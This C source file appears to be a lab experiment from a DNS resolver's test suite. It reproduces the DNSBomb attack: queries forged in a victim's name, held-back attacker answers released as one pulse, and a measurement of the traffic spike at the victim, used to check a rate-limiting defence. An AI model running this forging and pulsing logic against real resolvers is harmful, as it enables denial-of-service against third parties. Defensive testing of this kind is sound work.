/* dnsbomb: many small queries become one pulse (Li and others, 2024).
 *
 * The attacker asks in the victim's name, slowly, below every limit of rate, for names of its
 * own zone.  Its server does not answer, and the resolver waits.  When queries enough wait, the
 * server answers all of them at once, and the resolver sends all its answers to the victim in a
 * few milliseconds: a short pulse with the traffic of seconds, which overflows the victim's
 * queues and starves its TCP connections. */
#include <linux/if_ether.h>
#include <sys/socket.h>
#include <unistd.h>

#include "base/now.h"
#include "dns/query.h"
#include "tools/lab/experiment.h"

enum {
    BOMB_QUERIES = 150,
    BOMB_GAP_MS = 10,
    BOMB_WINDOW_US = 100000,
    BOMB_QUIET_MS = 2500, /* pacing delays an answer by at most 1.9 s */
    BOMB_TEXTS = 2,       /* of 250 octets, in an answer */
};

/* A query that waits for its answer at the attacker's server. */
struct bomb_query {
    struct addr from;
    struct trial_message reply;
};

/* Lifetime: the run. */
static struct bomb_query bomb_queries[BOMB_QUERIES];

static void send_bomb_query(struct trial *t, int forger, unsigned number)
{
    static struct packet p;
    uint8_t qname[DNAME_MAX], wire[QUERY_MAX];
    char name[80];

    snprintf(name, sizeof(name), "bomb%u.evil.attacker32.com", number);
    trial_name(name, qname);
    const struct query query = {.id = (uint16_t)number,
                                .flags = MESSAGE_RD,
                                .name = qname,
                                .type = RRTYPE_TXT,
                                .has_edns = true,
                                .udp_size = 1232};
    p.from = trial_addr("alice", 5555);
    p.to = trial_addr("resolver", 53);
    p.payload = wire;
    p.payload_len = query_write(&query, wire);
    packet_make(&p);
    trial_forge(t, forger, &p);
}

/* Take the queries that have come to the server, and prepare their answers.  The resolver asks
 * again while it waits: the last query counts. */
static void take_bomb_queries(int server)
{
    uint8_t wire[1232], text[251];
    char name[DNAME_TEXT_MAX];
    struct message query;
    unsigned number;

    memset(text, 'x', sizeof(text));
    text[0] = sizeof(text) - 1;
    while (trial_wait(server, 0)) {
        struct addr from;
        socklen_t from_len = sizeof(from.sock);
        ssize_t len = recvfrom(server, wire, sizeof(wire), 0, &from.sock.any, &from_len);
        if (len <= 0 || message_parse(wire, (size_t)len, &query) != MESSAGE_WHOLE ||
            !query.has_question)
            continue;
        trial_print_qname(&query, name);
        if (sscanf(name, "bomb%u.", &number) != 1 || number >= BOMB_QUERIES)
            continue;
        struct bomb_query *b = &bomb_queries[number];
        b->from = from;
        trial_begin(&b->reply, query.id, MESSAGE_QR | MESSAGE_AA, message_qname(&query),
                    query.qtype);
        for (uint8_t i = 0; i < BOMB_TEXTS; i++) {
            text[1] = (uint8_t)('a' + i);
            trial_record(&b->reply, MESSAGE_ANSWER, name, RRTYPE_TXT, 60, text, sizeof(text));
        }
    }
}

/* What arrives at the victim.  Lifetime: the run. */
struct bomb_pulse {
    uint64_t at_us[BOMB_QUERIES * 2];
    unsigned cnt, peak; /* peak: most packets within BOMB_WINDOW_US */
    size_t octets;
};

/* Note what arrives until nothing does for `quiet_ms`. */
static void hear_pulse(int ear, struct bomb_pulse *pulse, int quiet_ms)
{
    struct packet_view heard;

    while (pulse->cnt < ARRAY_LEN(pulse->at_us) && trial_hear(ear, quiet_ms, &heard)) {
        if (addr_port(&heard.from) != 53)
            continue;
        pulse->at_us[pulse->cnt++] = now_mono_us();
        pulse->octets += PACKET_IP4_LEN + PACKET_UDP_LEN + heard.payload_len;
    }
}

static void find_peak(struct bomb_pulse *pulse)
{
    for (unsigned first = 0, last = 0; last < pulse->cnt; last++) {
        while (pulse->at_us[last] - pulse->at_us[first] > BOMB_WINDOW_US)
            first++;
        pulse->peak = (unsigned)util_max(pulse->peak, last - first + 1);
    }
}

static void run_dnsbomb(struct trial *t)
{
    const struct addr at = trial_second("attacker", 53);
    int server = trial_open(t, "attacker", &at, SOCK_DGRAM),
        forger = trial_open_forger(t, "attacker"), ear = trial_open_ear(t, "alice");
    static struct bomb_pulse pulse;

    memset(&pulse, 0, sizeof(pulse));
    memset(bomb_queries, 0, sizeof(bomb_queries));
    for (unsigned i = 0; i < BOMB_QUERIES; i++) {
        send_bomb_query(t, forger, i);
        usleep(BOMB_GAP_MS * 1000);
        take_bomb_queries(server);
    }
    trial_tell(t, "%u queries wait; now all are answered", BOMB_QUERIES);
    for (size_t i = 0; i < BOMB_QUERIES; i++) {
        struct bomb_query *b = &bomb_queries[i];
        if (b->reply.len > 0)
            (void)sendto(server, b->reply.wire, b->reply.len, 0, &b->from.sock.any,
                         addr_len(&b->from));
        hear_pulse(ear, &pulse, 0);
    }
    hear_pulse(ear, &pulse, BOMB_QUIET_MS);
    find_peak(&pulse);
    close(server);
    close(forger);
    close(ear);
    const int64_t paced = trial_counter(t, "answers-paced");
    trial_number(t, "attack-queries", BOMB_QUERIES);
    trial_number(t, "queries-per-100-ms", 100 / BOMB_GAP_MS);
    trial_number(t, "answers-at-the-victim", pulse.cnt);
    trial_number(t, "octets-at-the-victim", (int64_t)pulse.octets);
    trial_number(t, "peak-per-100-ms", pulse.peak);
    trial_end(t, pulse.peak > 60 && paced == 0,
              "the victim got %u of %u answers within 100 ms; %lld were paced", pulse.peak,
              pulse.cnt, (long long)paced);
}

const struct experiment experiment_dnsbomb = {
    .name = "dnsbomb",
    .what = "slow answers are held back, then come in one pulse to the victim (DNSBomb)",
    .without = "client-limits",
    .stopped = "answers that were slow, to an address that may be forged, leave at about twice "
               "the rate of its queries; and one client may hold only a part of the queries in "
               "flight to a zone",
    .counters = {"answers-paced", "answers-paced-dropped", "queries-sent-udp"},
    .run = run_dnsbomb,
};
